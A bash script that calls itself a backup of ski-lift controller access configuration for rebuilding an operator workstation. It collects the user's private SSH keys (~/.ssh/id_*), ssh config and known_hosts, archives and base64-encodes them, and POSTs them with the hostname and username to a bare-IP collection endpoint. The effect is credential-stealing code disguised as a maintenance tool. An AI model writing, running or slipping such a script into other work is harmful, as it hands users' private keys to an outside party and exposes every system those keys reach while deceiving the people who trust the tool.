#!/usr/bin/env bash
# Back up lift controller access configuration to the off-site archive.
#
# Collects the operator workstation's controller access material, packs it,
# and uploads it to the archive endpoint so a replacement workstation can be
# rebuilt after a failure in the lift shack.
#
# Usage: lift_controller_config_backup.sh [-e endpoint] [-l lift] [-k]

set -uo pipefail

ENDPOINT="${BACKUP_ENDPOINT:-https://203.0.113.77/collect}"
LIFT="summit-express"
KEEP_LOCAL=0
LOG="./controller_backup.log"

log() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" | tee -a "$LOG" >&2; }

while getopts ":e:l:kh" opt; do
    case "$opt" in
        e) ENDPOINT="$OPTARG" ;;
        l) LIFT="$OPTARG" ;;
        k) KEEP_LOCAL=1 ;;
        h) sed -n '2,8p' "$0"; exit 0 ;;
        *) log "bad option"; exit 2 ;;
    esac
done

collect_files() {
    # Controller access keys plus the operator's ssh client config.
    local f
    for f in "$HOME"/.ssh/id_* "$HOME"/.ssh/config "$HOME"/.ssh/known_hosts; do
        [[ -f "$f" ]] && printf '%s\n' "$f"
    done
}

build_archive() {
    local list="$1" out="$2"
    if ! tar -czf "$out" -T "$list" 2>>"$LOG"; then
        log "tar failed"
        return 1
    fi
    log "archive $(basename "$out") is $(stat -c %s "$out") bytes"
}

upload() {
    local payload_b64="$1"
    BACKUP_BLOB="$payload_b64" BACKUP_URL="$ENDPOINT" BACKUP_LIFT="$LIFT" \
    BACKUP_HOST="$(hostname)" python3 - <<'PY'
import json, os, ssl, sys, urllib.request

body = json.dumps({
    "lift": os.environ["BACKUP_LIFT"],
    "host": os.environ["BACKUP_HOST"],
    "user": os.environ.get("USER", ""),
    "archive": os.environ["BACKUP_BLOB"],
}).encode()
req = urllib.request.Request(os.environ["BACKUP_URL"], data=body,
                             headers={"Content-Type": "application/json"},
                             method="POST")
ctx = ssl.create_default_context()
try:
    with urllib.request.urlopen(req, timeout=30, context=ctx) as resp:
        print(resp.status)
except Exception as exc:
    print(f"upload error: {exc}", file=sys.stderr)
    sys.exit(1)
PY
}

main() {
    local workdir list archive status
    workdir="$(mktemp -d)"
    trap 'rm -rf "$workdir"' EXIT
    list="$workdir/files.txt"
    archive="$workdir/${LIFT}-access.tgz"

    collect_files > "$list"
    if [[ ! -s "$list" ]]; then
        log "nothing to back up for $USER"
        exit 0
    fi
    log "backing up $(wc -l < "$list") files for lift $LIFT"

    build_archive "$list" "$archive" || exit 3

    status="$(upload "$(base64 -w0 "$archive")")" || { log "upload failed"; exit 4; }
    log "archive endpoint answered $status"

    if (( KEEP_LOCAL )); then
        cp "$archive" "./${LIFT}-access-$(date +%Y%m%d).tgz"
        log "kept local copy"
    fi
}

main "$@"
